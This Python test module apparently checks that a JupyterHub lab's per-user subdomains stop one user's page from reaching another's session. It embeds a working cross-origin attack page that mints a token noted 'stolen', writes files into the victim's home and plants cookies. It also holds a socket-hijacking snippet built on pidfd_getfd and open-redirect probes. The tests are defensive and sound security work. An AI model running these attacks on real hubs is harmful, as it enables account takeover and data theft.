"""A page of one person's server, opened by another: with a host name for each it gets nothing, and with one origin for all it gets everything.

The hub with host names has TLS, by a certificate of a private authority, since some of what keeps people apart is for TLS alone.
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import unquote

import httpx
import pytest
from playwright.sync_api import Browser as Chromium
from playwright.sync_api import Page, expect

from tests.support.awaiting import awaited
from tests.support.browser import chromium, enter, needs_chromium
from tests.support.hub.hubs import Browser, Person, Production, needs_accounts
from tests.support.hub.provider import Provider

pytestmark = [pytest.mark.attack, pytest.mark.browser, needs_chromium, needs_accounts]

# Served by what stands in bob's server. It knows where things are; alice's browser has her cookies.
PAGE = """<!doctype html><title>news</title><script>
const {server, hub, home, catalogue, mine} = PLACES;
const got = {};
const attempt = async (name, act) => { try { got[name] = String(await act()); } catch (error) { got[name] = `refused: ${error.name}`; } };
const text = (url, options) => fetch(url, {credentials: "include", ...options}).then((r) => r.text());
const opened = (url) => new Promise((done, fail) => {
  const other = window.open(url);
  const until = Date.now() + 15000;
  const look = () => {
    try {
      if (other.location.href !== "about:blank" && other.document.readyState === "complete") return done(other);
    } catch (error) { other.close(); return fail(error); }
    if (Date.now() > until) { other.close(); return fail(new Error("Time")); }
    setTimeout(look, 50);
  };
  look();
});
const framed = (url) => new Promise((done, fail) => {
  const frame = document.createElement("iframe");
  frame.onload = () => { try { done(frame.contentDocument.body.innerText.length > 0 ? "read" : "empty"); } catch (e) { fail(e); } };
  frame.src = url;
  document.body.append(frame);
  setTimeout(() => fail(new Error("Time")), 15000);
});
(async () => {
  await attempt("files", () => text(`${server}/user/alice/api/contents`));
  await attempt("me", () => text(`${hub}/hub/api/user`));
  await attempt("home", () => text(`${home}/services/home/`));
  await attempt("catalogue", () => text(`${catalogue}/services/catalogue/me`));
  await attempt("key", () => text(`${catalogue}/services/catalogue/pixels/keys`, {method: "POST", body: '{"collection": "PEPS_S2_L1C", "item": "x"}'}));
  // A page of hers, opened and read: its XSRF token makes a token of hers.
  await attempt("token", async () => {
    const other = await opened(`${hub}/hub/token`);
    const xsrf = other.document.documentElement.innerHTML.match(/xsrf_token: "([^"]+)"/)[1];
    other.close();
    const made = await fetch(`${hub}/hub/api/users/alice/tokens?_xsrf=${xsrf}`,
      {method: "POST", credentials: "include", headers: {"Content-Type": "application/json"}, body: '{"note": "stolen"}'});
    return (await made.json()).token;
  });
  await attempt("code", async () => {
    const other = await opened(`${server}/user/alice/tree`);
    const xsrf = other.document.cookie.match(/_xsrf=([^;]+)/)[1];
    other.close();
    const written = await fetch(`${server}/user/alice/api/contents/owned.txt?_xsrf=${xsrf}`,
      {method: "PUT", credentials: "include", body: JSON.stringify({type: "file", format: "text", content: "by bob"})});
    return written.status;
  });
  // Sent without a look at the answer, as forms are.
  for (const [name, url] of [["blind", `${server}/user/alice/api/contents/blind.txt`], ["blind hub", `${hub}/hub/api/users/alice/tokens`]])
    await attempt(name, () => fetch(url, {method: "POST", mode: "no-cors", credentials: "include", body: '{"note": "stolen", "type": "file"}'}).then((r) => r.type));
  await attempt("websocket", () => new Promise((done, fail) => {
    const socket = new WebSocket(`${server.replace("http", "ws")}/user/alice/api/events/subscribe`);
    socket.onopen = () => done("opened");
    socket.onerror = () => fail(new Error("Closed"));
  }));
  await attempt("frame", () => framed(`${home}/services/home/`));
  // Bob's own login, planted for all of the lab's names.
  for (const name of COOKIES) for (const path of ["/", "/hub/", "/services/home/"])
    document.cookie = `${name}=${mine}; domain=lab.localhost; path=${path}; secure`;
  window.got = got;
})();
</script>"""


@dataclass
class Scene:
    """A hub, a browser in which alice has logged in everywhere, and a page of bob's server that she opens."""

    hub: Production
    alice: Page
    bob: Person
    link: str

    def attacked(self) -> dict[str, str]:
        """What bob's page got."""
        self.alice.goto(self.link)
        if "/oauth2/authorize" in self.alice.url:  # the hub asks her once whether bob's server may know who she is
            self.alice.get_by_role("button", name="Authorize").click()
        self.alice.wait_for_function("window.got", timeout=90_000)
        found: dict[str, str] = self.alice.evaluate("window.got")
        return found


def scene(hub: Production, provider: Provider, browser: Chromium) -> Scene:
    provider.put("alice", groups=["geodes"])
    provider.put("bob", groups=["geodes"])
    Browser(hub).login("alice")
    bob = Person(hub, "bob")
    page = browser.new_context(locale="en-US", ignore_https_errors=True).new_page()
    enter(page, hub.url, "alice")
    page.goto(f"{hub.url}/hub/spawn")
    page.wait_for_url(re.compile("/user/alice/"), timeout=90_000)
    for name in ("catalogue", "usage"):
        page.goto(f"{hub.at(f'{name}--service')}/services/{name}/login")
    cookies = [c["name"] for c in page.context.cookies() if c["name"] != "_xsrf"]
    places = {
        "server": hub.at("alice"), "hub": hub.url, "home": hub.at("home--service"), "catalogue": hub.at("catalogue--service"), "mine": "planted",
    }  # fmt: skip
    text = PAGE.replace("PLACES", json.dumps(places)).replace("COOKIES", json.dumps(cookies))
    taken = bob.run(
        f"""
        import ctypes, http.server, os, signal, socket, threading, urllib.parse
        # The server is bob's own process: he takes its door from it, and answers himself.
        server, port = os.getppid(), urllib.parse.urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"]).port
        call = ctypes.CDLL(None, use_errno=True).syscall
        process = call(434, server, 0)  # pidfd_open
        found = None
        for name in os.listdir(f"/proc/{{server}}/fd"):
            if found is None and os.readlink(f"/proc/{{server}}/fd/{{name}}").startswith("socket:"):
                held = call(438, process, int(name), 0)  # pidfd_getfd
                if held >= 0:
                    one = socket.socket(fileno=held)
                    if one.family == socket.AF_INET and one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) and one.getsockname()[1] == port:
                        found = one
        class Page(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write({text.encode()!r})
            def log_message(self, *words): pass
        app = http.server.ThreadingHTTPServer(("127.0.0.1", port), Page, bind_and_activate=False)
        app.socket = found
        def stand_in():
            os.kill(server, signal.SIGSTOP)
            app.serve_forever()
        threading.Timer(3, stand_in).start()
        print(port if found else "not taken")
        """
    )
    assert taken.isdigit(), taken
    link = f"{hub.at('bob')}/user/bob/attack"

    def stands() -> bool:
        try:
            return "window.got" in httpx.get(f"http://127.0.0.1:{taken}/user/bob/attack", timeout=2).text
        except httpx.HTTPError:
            return False

    awaited(stands, 180)
    return Scene(hub, page, bob, link)


def lab(provider: Provider, sample) -> dict:
    return {
        "login": {"kind": "oidc", "oidc": provider.settings()},
        "servers": {"kind": "accounts"},
        "profiles": {"S": {"title": "Small", "cores": 1, "memory": "2 GiB"}},
        "groups": {"geodes": {"profiles": ["S"]}},
        "catalogue": {"static": str(sample / "catalog" / "catalog.json")},
        "datalake": {"folder": str(sample / "datalake")},
    }


@pytest.fixture(scope="module")
def browser() -> Iterator[Chromium]:
    with chromium() as running:
        yield running


@pytest.fixture(scope="module")
def apart(sample, browser) -> Iterator[Scene]:
    with Provider() as provider, Production(lab(provider, sample), host="lab.localhost") as hub:
        yield scene(hub, provider, browser)


def stolen(hub: Production) -> int:
    """How many tokens of alice's have the attack's note, as she sees them herself."""
    browser = Browser(hub)
    browser.login("alice")
    tokens = browser.api("GET", "/users/alice/tokens").json()["api_tokens"]
    return sum(t["note"] == "stolen" for t in tokens)


def test_page_of_another_gets_nothing(apart):
    got = apart.attacked()
    tried = "files|me|home|catalogue|key|token|code|blind|blind hub|websocket|frame"
    assert set(got) == set(tried.split("|"))
    refused = {name for name, said in got.items() if said.startswith("refused: ")}
    # A blind request leaves, and nobody tells the page what became of it; that is seen below.
    assert set(got) - refused <= {"blind", "blind hub"}, got
    home = apart.hub.homes / "lab-alice"
    assert not (home / "owned.txt").exists()
    assert not list(home.glob("*.txt")), "nor by a request without an answer"
    assert stolen(apart.hub) == 0


def test_planted_cookies_mean_nothing(apart):
    """After the attack alice is still alice, everywhere; cookies of that name for all of the lab are refused by her browser."""
    apart.attacked()
    named = {c["name"]: c for c in apart.alice.context.cookies()}
    hers = [
        n for n in named if n.startswith(("__Host-jupyterhub-hub-login", "__Host-geodes-", "__Host-jupyterhub-user-"))
    ]
    assert len(hers) >= 4, sorted(named)
    assert not [
        n for n in named if n.startswith("__Host-") and (named[n]["value"] == "planted" or named[n]["domain"][0] == ".")
    ]
    page = apart.alice
    page.goto(f"{apart.hub.url}/services/home/")
    expect(page.get_by_role("heading", name="Welcome, alice")).to_be_visible()
    assert page.url == f"{apart.hub.at('home--service')}/services/home/"


def test_login_of_the_attacker_cannot_be_ended_in_anothers_browser(apart):
    """Bob begins a login, keeps its state and its code, and gives both to alice's browser: it would be logged in as bob."""
    bob = Browser(apart.hub)
    first = bob.web.get(f"{apart.hub.url}/hub/oauth_login", follow_redirects=False)
    (state,) = (c for c in bob.web.cookies.jar if c.name.endswith("oauthenticator-state"))
    form = bob.web.get(first.headers["location"])
    back = bob.web.post(str(form.url), data={"sub": "bob"}, follow_redirects=False).headers["location"]
    context = apart.alice.context.browser.new_context(ignore_https_errors=True)
    page = context.new_page()
    page.goto(apart.hub.at("bob"))  # any address of his host name
    page.evaluate(f"""() => {{ for (const name of ["oauthenticator-state", "{state.name}"])
        document.cookie = name + "=" + {json.dumps(state.value)} + "; domain=lab.localhost; path=/hub/; secure"; }}""")
    seen = page.goto(back)
    assert seen.status == 400
    assert not [c for c in context.cookies() if c["name"].endswith("hub-login")]
    # The control: with a cookie of the hub's own host the same address logs in.
    own = apart.alice.context.browser.new_context(ignore_https_errors=True)
    own.add_cookies([{"name": state.name, "value": state.value, "url": apart.hub.url + "/", "secure": True}])
    landed = own.new_page()
    landed.goto(back)
    assert [c for c in own.cookies() if c["name"].endswith("hub-login")]


def test_what_people_use_works_with_host_names(apart):
    hub, page = apart.hub, apart.alice
    page.goto(f"{hub.url}/")
    assert page.url == f"{hub.at('home--service')}/services/home/"
    for link, host in (("Open the catalogue", "catalogue--service"), ("All my usage", "usage--service")):
        page.goto(f"{hub.url}/services/home/")
        page.get_by_role("link", name=link).click()
        page.wait_for_load_state()
        assert page.url.startswith(hub.at(host)), page.url
        expect(page.get_by_text("alice").first).to_be_visible()
    # The page's language is one choice for all of the lab's names.
    page.get_by_role("link", name="Français").click()
    page.get_by_role("link", name="Accueil").click()
    expect(page.get_by_role("heading", name="Bienvenue, alice")).to_be_visible()
    page.get_by_role("link", name="English").click()
    # A search becomes a notebook of hers: from one host name by another to a third.
    page.goto(f"{hub.at('catalogue--service')}/services/catalogue/?collection=PEPS_S2_L1C")
    page.get_by_role("button", name="Search").click()
    # Pixels of the service of tiles on the catalogue's page: from a fourth, by keys of her session.
    page.locator("#results button.product").first.click()
    expect(page.locator(".leaflet-tile-pane img.leaflet-tile-loaded").first).to_be_visible(timeout=90_000)
    page.get_by_role("button", name="Close").click()
    page.get_by_role("link", name="Open in a notebook").first.click()
    page.wait_for_url(re.compile(re.escape(hub.at("alice")) + "/user/alice/"), timeout=60_000)
    # A page of the hub by another host name is the hub's own.
    page.goto(f"{hub.at('alice')}/hub/home")
    assert page.url == f"{hub.url}/hub/home"
    page.goto(f"{hub.at('alice')}/hub/nonsense?x=1")
    assert page.url == f"{hub.url}/hub/nonsense?x=1"
    page.goto(f"{hub.url}/user/alice/geodes/space")
    assert page.url.split("?")[0] == f"{hub.at('alice')}/user/alice/geodes/space"
    page.locator("a[href$='hub/home']").click()
    page.wait_for_load_state()
    assert page.url == f"{hub.url}/hub/home"


def test_names_are_those_that_jupyterhub_makes(apart):
    from jupyterhub.utils import subdomain_hook_idna

    from geodes_lab.policy.lab import load

    told = load(apart.hub.file)
    for name in ("home", "catalogue", "tiles", "usage"):
        made = subdomain_hook_idna(name, "lab.localhost", "service")
        assert told.origin(name) == f"https://{made}:{apart.hub.port}" == apart.hub.at(f"{name}--service")
    assert told.origin() == apart.hub.url


def test_a_service_of_another_name_leads_nowhere_else(apart):
    web = apart.hub.client(follow_redirects=False)
    for path in ("/hub/services/evil.example/", "/hub/services/home@evil.example/", "/hub/services//evil.example/"):
        answer = web.get(apart.hub.url + path)
        assert "location" not in answer.headers or answer.headers["location"].startswith((apart.hub.url, "/")), path
    answer = web.get(f"{apart.hub.url}/hub/services/home//evil.example/x?y=1")
    assert answer.headers["location"] == f"{apart.hub.at('home--service')}/services/home//evil.example/x?y=1"
    # Another host than the lab's own names is not led anywhere by its name.
    answer = web.get(f"{apart.hub.url}/hub/login", headers={"Host": "lab.localhost.evil.example"})
    assert "evil" not in answer.headers.get("location", "")


def test_log_out_ends_the_services_too(apart):
    hub = apart.hub
    browser = Browser(hub)
    browser.login("bob")
    home = f"{hub.at('home--service')}/services/home/"
    browser.web.get(f"{home}login")
    assert "Welcome, bob" in browser.web.get(home).text
    browser.web.get(f"{hub.url}/hub/logout", follow_redirects=False)
    assert "Welcome, bob" not in browser.web.get(home).text


def test_log_out_is_whole_though_a_page_planted_the_name_of_the_session(apart):
    hub, page = apart.hub, apart.alice
    apart.attacked()
    page.goto(f"{hub.url}/services/home/")
    held = {
        c["name"]: c["value"]
        for c in page.context.cookies()
        if c["name"] in ("__Host-geodes-home", "__Host-geodes-usage")
    }
    tokens = [base64.b64decode(unquote(value).split("|")[4].split(":")[1]).decode() for value in held.values()]
    assert len(tokens) == 2

    def ask(token: str) -> int:
        return hub.client().get(f"{hub.url}/hub/api/user", headers={"Authorization": f"token {token}"}).status_code

    assert [ask(t) for t in tokens] == [200, 200]
    # As a server of bob's own may, by a header: scripts do not reach a cookie that is kept from them.
    planted = {
        "name": "jupyterhub-session-id",
        "value": "planted",
        "domain": ".lab.localhost",
        "path": "/",
        "secure": True,
    }
    page.context.add_cookies([planted])
    page.goto(f"{hub.url}/hub/logout")
    assert [ask(t) for t in tokens] == [403, 403]


@pytest.mark.slow  # the control: what host names are for; another hub and browser
def test_with_one_origin_it_gets_everything(sample, browser):
    """The control, and what `subdomains: false` costs; the hub says so when it starts."""
    with Provider() as provider, Production(lab(provider, sample)) as hub:
        assert "subdomains is false: all pages of the lab have the same origin" in hub.said()
        got = scene(hub, provider, browser).attacked()
        assert len(got["token"]) > 20, got
        assert stolen(hub) == 1
        assert got["code"] in ("200", "201"), got
        assert (hub.homes / "lab-alice" / "owned.txt").read_text() == "by bob"
        assert got["websocket"] == "opened"
